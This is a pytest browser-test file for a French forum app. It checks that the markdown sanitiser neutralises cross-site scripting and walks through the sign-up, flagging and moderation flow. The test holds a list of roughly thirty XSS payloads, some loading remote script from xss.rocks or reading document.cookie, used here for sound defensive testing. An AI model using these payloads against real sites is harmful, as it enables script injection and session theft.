"""The forum in a real browser (Debian's Chromium): no XSS payload survives the sanitiser, and
the whole path from sign-up to the public moderation log works on a phone."""

from __future__ import annotations

import re

import pytest

from maillage.accounts.tests.factories import DEFAULT_PASSWORD, UserFactory
from maillage.core.roles import Role
from maillage.core.tests.browser import browser_login, screenshot
from maillage.forum import services
from maillage.forum.models import Contribution, ForumProfile, Level, Status
from maillage.forum.tests.helpers import charter, member, post, theme

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

# Vectors from the OWASP XSS Filter Evasion Cheat Sheet, plus the Markdown link forms a
# renderer might turn into live links.
XSS_PAYLOADS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    '&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "<svg/onload=alert('XSS')>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    '<details open ontoggle="alert(1)">',
    '<math><mi xlink:href="javascript:alert(1)">click</mi></math>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '[click](  javascript:alert(1) "t")',
    '[a](https://example.org/" onmouseover="alert(1))',
]


def test_no_xss_payload_runs_in_a_real_browser(page, live_server) -> None:  # type: ignore[no-untyped-def]
    """Each payload is posted, rendered and sanitised as members' text is; the stored HTML is
    then loaded in Chromium *without* our Content-Security-Policy (so only the sanitiser stands
    between the payload and the browser), every element hovered and every link clicked: no
    dialog opens, no element carries an event handler, no link a script scheme."""
    author = member(Level.RATER)
    where = theme()
    items = [
        post(author, where, title=f"Vecteur {i}", body=payload)
        for i, payload in enumerate(XSS_PAYLOADS)
    ]
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    html = "".join(f'<section id="v{i}">{item.body_html}</section>' for i, item in enumerate(items))
    page.set_content(f"<!doctype html><html><body>{html}</body></html>")
    for element in page.locator("body *").all():
        if element.is_visible():
            element.hover(timeout=1000)
    for link in page.locator("a").all():
        link.click(timeout=1000, no_wait_after=True)
        page.go_back() if page.url != "about:blank" else None
    page.wait_for_timeout(300)
    assert dialogs == []
    handlers = page.evaluate(
        "() => [...document.querySelectorAll('*')].flatMap(e => [...e.attributes]"
        ".filter(a => a.name.startsWith('on') || /^\\s*(javascript|vbscript|data):/i.test(a.value))"
        ".map(a => e.tagName + ' ' + a.name + '=' + a.value))"
    )
    assert handlers == []
    tags = set(
        page.evaluate(
            "() => [...document.querySelectorAll('body *')].map(e => e.tagName.toLowerCase())"
        )
    )
    assert tags <= {
        "section",
        "p",
        "a",
        "strong",
        "em",
        "code",
        "br",
        "ul",
        "ol",
        "li",
        "blockquote",
        "pre",
        "hr",
    }
    # And the real page, under its policy, shows them as text.
    page.goto(f"{live_server.url}/forum/c/{items[0].pk}/")
    assert "<script>alert('XSS')</script>" in page.get_by_test_id("body").inner_text()
    assert dialogs == []


def _logout(page) -> None:  # type: ignore[no-untyped-def]
    page.get_by_role("button", name="Déconnexion").click()


def test_sign_up_post_get_rated_flagged_hidden_restored_and_logged(
    page, live_server, smtp_server
) -> None:  # type: ignore[no-untyped-def]
    staff = UserFactory(email="staff@example.org", full_name="Samir Staff", role=Role.STAFF)
    text = charter(staff)
    where = services.theme_create(actor=staff, name="Santé", description="Vos idées pour la santé")
    for i in range(4):
        post(member(Level.RATER), where, title=f"Une maison de santé par canton {i}")
    raters = [UserFactory(email=f"rater{i}@example.org", role=Role.SUPPORTER) for i in range(2)]
    trusted = UserFactory(email="trusted@example.org", role=Role.SUPPORTER)
    services.profile_get(user=trusted)
    ForumProfile.objects.filter(user=trusted).update(
        level=Level.FLAGGER, manual_level=Level.FLAGGER, moderation_points=3, flags_upheld=4
    )
    moderator = UserFactory(email="moderator@example.org", role=Role.SUPPORTER)
    where.moderators.add(moderator)

    # A new member signs up, confirms the address and posts.
    page.goto(f"{live_server.url}/accounts/signup/")
    page.get_by_label("Prénom et nom").fill("Nadia Nouvelle")
    page.get_by_label("Adresse e-mail").fill("nadia@example.org")
    page.locator("#id_password1").fill("un-mot-de-passe-solide-42")
    page.locator("#id_password2").fill("un-mot-de-passe-solide-42")
    page.get_by_role("button", name="Créer mon compte").click()
    page.wait_for_load_state()
    body = smtp_server.messages[-1].get_payload(decode=True).decode()
    path = re.search(r"https?://[^/\s]+(/accounts/confirm/\S+)", body)
    assert path is not None, body
    page.goto(live_server.url + path[1])
    browser_login(page, live_server, "nadia@example.org", "un-mot-de-passe-solide-42")
    page.goto(f"{live_server.url}/forum/t/{where.slug}/")
    page.get_by_label("Titre").fill("Des centres de santé ouverts le soir")
    page.get_by_label("Votre proposition").fill("Ouverts **jusqu'à 22 h**, avec des infirmières.")
    page.get_by_role("button", name="Publier").click()
    page.wait_for_url("**/forum/c/*/")
    assert "jusqu'à 22 h" in page.get_by_test_id("body").inner_text()
    item = Contribution.objects.get(title="Des centres de santé ouverts le soir")
    page.goto(f"{live_server.url}/forum/moi/")
    assert "nouveau membre" in page.get_by_test_id("level").inner_text()
    _logout(page)

    # Two others rate it up; the author reaches rater level.
    for rater in raters:
        browser_login(page, live_server, rater.email, DEFAULT_PASSWORD)
        page.goto(f"{live_server.url}/forum/c/{item.pk}/")
        page.get_by_test_id(f"rate-contribution-{item.pk}").get_by_role(
            "button", name="Pour"
        ).click()
        page.wait_for_load_state()
        _logout(page)
    browser_login(page, live_server, "nadia@example.org", "un-mot-de-passe-solide-42")
    page.goto(f"{live_server.url}/forum/moi/")
    assert "évaluateur" in page.get_by_test_id("level").inner_text()
    screenshot(page, "forum-level")
    _logout(page)

    # A trusted member flags it: it is hidden pending review.
    browser_login(page, live_server, "trusted@example.org", DEFAULT_PASSWORD)
    page.goto(f"{live_server.url}/forum/c/{item.pk}/")
    flag = page.get_by_test_id(f"flag-contribution-{item.pk}")
    page.get_by_text("Signaler").first.click()
    flag.get_by_label("Article de la charte enfreint").select_option(label="1. Respect")
    flag.get_by_role("button", name="Envoyer le signalement").click()
    page.wait_for_url("**/forum/journal/")
    assert Contribution.objects.get(pk=item.pk).status == Status.HIDDEN
    _logout(page)

    # A moderator of the theme restores it from the queue, citing a clause.
    browser_login(page, live_server, "moderator@example.org", DEFAULT_PASSWORD)
    page.goto(f"{live_server.url}/forum/t/{where.slug}/moderation/")
    queue = page.get_by_test_id("queue")
    queue.get_by_label("Des centres de santé ouverts le soir").check()
    queue.get_by_label("Action").select_option("restore")
    queue.get_by_label("Article de la charte").select_option(label="2. Sujet")
    queue.get_by_label("Note").fill("Proposition dans le sujet, sans propos injurieux")
    screenshot(page, "forum-queue")
    queue.get_by_role("button", name="Appliquer").click()
    page.wait_for_load_state()
    assert Contribution.objects.get(pk=item.pk).status == Status.VISIBLE
    _logout(page)

    # Anyone reads the public log: the automatic hide and the restore, with their clauses.
    page.goto(f"{live_server.url}/forum/journal/")
    log = page.get_by_test_id("log").inner_text()
    assert "rétablissement" in log and "masquage automatique" in log
    assert "art. 2" in log and "art. 1" in log
    assert "Proposition dans le sujet" in log
    screenshot(page, "forum-log")
    page.goto(f"{live_server.url}/forum/t/{where.slug}/")
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    screenshot(page, "forum-theme")
    assert text.version == 1
